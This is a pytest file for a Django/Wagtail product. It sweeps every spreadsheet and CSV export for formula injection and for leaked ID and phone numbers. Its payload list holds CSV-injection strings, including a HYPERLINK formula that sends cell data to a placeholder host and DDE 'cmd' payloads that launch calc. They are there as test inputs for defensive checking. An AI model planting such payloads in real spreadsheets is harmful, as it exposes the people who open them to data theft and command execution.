"""Every spreadsheet export of the product, swept: formula injection and personal data.

The exports are found, not listed by hand: every URL whose view is a Wagtail ``SpreadsheetExportMixin`` with
``list_export`` (our viewsets and Wagtail's own reports), and every product module that answers with a CSV or
spreadsheet content type; the test fails when one appears that the sweep does not download.

Names, tiers, units, service items, page titles and redirect targets are set to text starting with
``= + - @``, a tab or a carriage return; each export is downloaded as an administrator and as the department
user it is meant for. No cell may be a formula or start with such a character unescaped (CSV: behind a single
quote; XLSX: a string cell with the quote-prefix flag), and no raw ID or phone number may leave except in the
partner bank's production batch, whose purpose needs them."""

import csv
import datetime
import io
import random
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from casefiles.demo_cards import issue_card
from casefiles.demo_dossiers import dossier_in_state
from casefiles.exports import csv_cell, looks_like_formula
from casefiles.models import Card, Department, Dossier, Scheme, ServiceItem, Tier
from casefiles.services.registry_import import schemes_importable_by
from casefiles.testing import attach_required_materials, demo_user_for, fire, identity, path_to
from tests.casefiles.factories import PASSWORD, setup_schemes, user

pytestmark = [pytest.mark.django_db, pytest.mark.smoke, pytest.mark.usefixtures("schemes_once")]

PAYLOADS = ['=HYPERLINK("http://x.example/?q="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
DANGEROUS_START = re.compile(r"^[\s\u3000]*[=+\-@＝＋－＠]|^[\t\r\n]")

# Wagtail export views reached by URL: route (as the resolver spells it) -> the URL swept.
WAGTAIL_EXPORTS = {
    "admin/cards/": "/admin/cards/",
    "admin/cards/results/": "/admin/cards/results/",
    "admin/reports/locked/": "/admin/reports/locked/",
    "admin/reports/locked/results/": "/admin/reports/locked/results/",
    "admin/reports/aging-pages/": "/admin/reports/aging-pages/",
    "admin/reports/aging-pages/results/": "/admin/reports/aging-pages/results/",
    "admin/reports/site-history/": "/admin/reports/site-history/",
    "admin/reports/site-history/results/": "/admin/reports/site-history/results/",
    "admin/reports/workflow/": "/admin/reports/workflow/",
    "admin/reports/workflow/results/": "/admin/reports/workflow/results/",
    "admin/reports/workflow_tasks/": "/admin/reports/workflow_tasks/",
    "admin/reports/workflow_tasks/results/": "/admin/reports/workflow_tasks/results/",
    "admin/redirects/": "/admin/redirects/",
    "admin/redirects/results/": "/admin/redirects/results/",
}
# Wagtail's form-submission export (admin/forms/submissions/<page_id>/, ``list_export`` set per form page) has
# nothing to export: the project has no form page types (asserted below).
# Product modules that answer with a spreadsheet or CSV themselves -> what the sweep downloads from them.
PRODUCT_EXPORTERS = {
    "casefiles/adminviews/dossiers.py": "dossier work lists (to do, done, overdue)",
    "casefiles/adminviews/cards_actions.py": "holder import template",
    "casefiles/views_cards.py": "production batch for the partner bank",
    "programmes/adminviews.py": "statistics and feedback report",
    "delivery/report_views.py": "the service delivery report (programme office; cells through casefiles.exports.xlsx_row)",
}
CONTENT_TYPES = re.compile(r"text/csv|spreadsheetml|ms-excel|opendocument\.spreadsheet|xlsx_response\(")


def _walk(resolver, prefix=""):
    for pattern in resolver.url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern, route)
        elif isinstance(pattern, URLPattern):
            yield route.lstrip("^"), pattern.callback


def export_routes():
    """Routes whose view writes Wagtail spreadsheet exports (``list_export`` set on the class or by the viewset)."""
    found = set()
    for route, callback in _walk(get_resolver()):
        view_class = getattr(callback, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            initkwargs = getattr(callback, "view_initkwargs", {}) or {}
            if initkwargs.get("list_export", view_class.list_export):
                found.add(route)
    return found


def product_exporters():
    root = Path(settings.BASE_DIR)
    found = set()
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "node_modules/")) or "/migrations/" in relative:
            continue
        if relative == "casefiles/exports.py":
            continue  # the sanitiser itself
        if CONTENT_TYPES.search(path.read_text(encoding="utf-8", errors="ignore")):
            found.add(relative)
    return found


def test_the_sweep_knows_every_export():
    from wagtail.contrib.forms.utils import get_form_types

    assert export_routes() == set(WAGTAIL_EXPORTS)
    assert get_form_types() == []
    assert product_exporters() == set(PRODUCT_EXPORTERS)


def test_csv_cell_rule():
    for payload in PAYLOADS + [" =1+1", "\u3000=1", "\n=1"]:
        assert looks_like_formula(payload) and csv_cell(payload) == "'" + payload
    for harmless in ["孙志强", "Zhang San", "2026-01-01", "", "a=b", "138****5678"]:
        assert csv_cell(harmless) == harmless
    assert csv_cell(12) == 12 and csv_cell(None) is None


# --- the sweep ------------------------------------------------------------------------------------------------


def _cells(kind, content):
    """(value, is_formula, quote_prefixed) for every cell of a download."""
    if kind == "csv":
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            for value in row:
                yield value, False, False
        return
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.value, cell.data_type == "f", bool(cell.quotePrefix)


@pytest.fixture
def world(client):
    """Every export has rows whose text starts like a formula, and raw ID and phone numbers to keep in."""
    setup_schemes()
    admin = get_user_model().objects.create_superuser("export.admin", "admin@example.cn", PASSWORD)
    today = timezone.localdate()
    card = issue_card("tonghua", applicant_name=PAYLOADS[0])
    Card.objects.filter(pk=card.pk).update(holder_name=PAYLOADS[0])
    Tier.objects.filter(pk=card.tier_id).update(name=PAYLOADS[5])
    Department.objects.filter(pk=card.employer_id).update(name=PAYLOADS[2])

    liaocheng = Scheme.objects.get(slug="liaocheng")
    from casefiles.services.dossiers import dossier_create

    employer = liaocheng.jurisdiction.departments.filter(kind="employer").order_by("pk").first()
    open_dossier = dossier_create(applicant=user("liaocheng.applicant"), scheme=liaocheng,
                                  requested_tier=liaocheng.tiers.order_by("rank").first(), employer=employer,
                                  **identity(applicant_name="孙志强"))
    attach_required_materials(open_dossier)
    open_dossier = fire(open_dossier, next(t for t in path_to(liaocheng, "issued") if t.code == "submit"))
    Dossier.objects.filter(pk=open_dossier.pk).update(applicant_name=PAYLOADS[1], due_date=today - datetime.timedelta(days=1))
    Tier.objects.filter(pk=open_dossier.requested_tier_id).update(name=PAYLOADS[4])

    # the partner bank's production batch (chuxiong has a bank step)
    from casefiles.services import cards as card_services

    chuxiong = Scheme.objects.get(slug="chuxiong")
    batch_dossier = dossier_in_state(chuxiong, get_user_model().objects.create_user("export-batch-1"), random.Random(3),
                                     "card_production")
    Dossier.objects.filter(pk=batch_dossier.pk).update(applicant_name=PAYLOADS[3])
    bank = get_user_model().objects.get(username="chuxiong.bank")
    batch = card_services.production_batch_create(scheme=chuxiong, user=bank)

    # feedback: a service item and a responsible unit named like formulas, overdue
    from programmes.models import Feedback
    from programmes.services import feedback_submit

    item = ServiceItem.objects.get(scheme=liaocheng, ref="7")
    feedback = feedback_submit(user=user("liaocheng.employer"), service_item=item, kind="complaint", text=PAYLOADS[3])
    Feedback.objects.filter(pk=feedback.pk).update(due_date=today - datetime.timedelta(days=1))
    ServiceItem.objects.filter(pk=item.pk).update(title=PAYLOADS[6])
    Department.objects.filter(pk=feedback.unit_id).update(name=PAYLOADS[0])

    # Wagtail: a locked page titled like a formula, its history entry, a redirect
    from wagtail.log_actions import log
    from wagtail.models import Page
    from wagtail.contrib.redirects.models import Redirect

    from policypages.demo import ensure_home_page

    ensure_home_page()  # Wagtail's welcome page is gone once a transactional test has flushed the database
    page = Page.objects.filter(depth__gt=1).order_by("pk").first()
    Page.objects.filter(pk=page.pk).update(title=PAYLOADS[0], draft_title=PAYLOADS[0], locked=True, locked_by=admin, locked_at=timezone.now())
    page.refresh_from_db()
    log(instance=page, action="wagtail.edit", user=admin)
    Redirect.objects.create(old_path="/old-formula", redirect_link=PAYLOADS[0])

    raw = {value for d in Dossier.objects.all() for value in (d.id_number, d.phone) if value}
    staff = {
        "card department": get_user_model().objects.get(username="tonghua.service-center"),
        "reviewer": demo_user_for(open_dossier, open_dossier.state.actor),
        "bank": bank,
        "programme office": get_user_model().objects.get(username="liaocheng.talent-office"),
        "importer": next(u for u in get_user_model().objects.filter(username__startswith="tonghua.").order_by("username")
                         if schemes_importable_by(u).exists()),
    }
    for member in staff.values():
        member.user_permissions.add(Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"))
    return {"admin": admin, "staff": staff, "raw": raw, "batch": batch, "today": today}


def test_every_export_neutralises_formulas_and_masks_numbers(client, world):
    month = f"{world['today']:%Y-%m}"
    staff = world["staff"]
    downloads = []  # (label, url, kind, users, raw numbers allowed)
    for route, url in sorted(WAGTAIL_EXPORTS.items()):
        users = [world["admin"]] + ([staff["card department"]] if route.startswith("admin/cards/") else [])
        for kind in ("csv", "xlsx"):
            downloads.append((route, f"{url}?export={kind}", kind, users, False))
    for kind_of_list in ("todo", "done", "overdue"):
        downloads.append((f"dossiers {kind_of_list}", reverse(f"casefiles_dossiers:{kind_of_list}") + "?export=xlsx", "xlsx",
                          [world["admin"], staff["reviewer"]], False))
    downloads += [
        ("holder import template", reverse("casefiles_card_actions:template"), "xlsx", [staff["importer"]], False),
        ("production batch", f"/cards/batches/{world['batch'].pk}/export.xlsx", "xlsx", [staff["bank"]], True),
        ("statistics", "/admin/programmes/statistics/?export=xlsx", "xlsx", [world["admin"], staff["programme office"]], False),
        ("feedback report", f"/admin/programmes/feedback/report/?month={month}&export=xlsx", "xlsx",
         [world["admin"], staff["programme office"]], False),
    ]

    problems, cells, neutralised, swept = [], 0, {}, 0
    for label, url, kind, users, raw_allowed in downloads:
        for who in users:
            client.force_login(who)
            response = client.get(url)
            if response.status_code != 200:
                problems.append((label, who.username, response.status_code))
                continue
            swept += 1
            content = b"".join(response.streaming_content) if response.streaming else response.content
            for value, is_formula, quoted in _cells(kind, content):
                cells += 1
                text = str(value)
                if is_formula:
                    problems.append((label, who.username, "formula", text))
                elif kind == "csv" and DANGEROUS_START.match(text):
                    problems.append((label, who.username, "unescaped", text))
                elif kind == "xlsx" and looks_like_formula(text) and not quoted:
                    problems.append((label, who.username, "no quote prefix", text))
                if (kind == "csv" and text.startswith("'") and looks_like_formula(text[1:])) or (kind == "xlsx" and quoted):
                    neutralised[label] = neutralised.get(label, 0) + 1
                if not raw_allowed and any(number in text for number in world["raw"]):
                    problems.append((label, who.username, "raw ID or phone number"))
            if raw_allowed:  # the bank's list carries them on purpose (casefiles/registry.py)
                texts = [str(value) for value, _f, _q in _cells(kind, content)]
                assert any(number in text for number in world["raw"] for text in texts)
    assert problems == []
    # the payloads did reach the exports they were planted for, neutralised
    for label in ("admin/cards/", "dossiers overdue", "dossiers todo", "production batch", "statistics", "feedback report",
                  "admin/reports/locked/", "admin/reports/site-history/", "admin/redirects/"):
        assert neutralised.get(label), (label, neutralised)
    print(f"exports swept: {len(downloads)} URLs, {swept} downloads, {cells} cells, "
          f"{sum(neutralised.values())} neutralised")
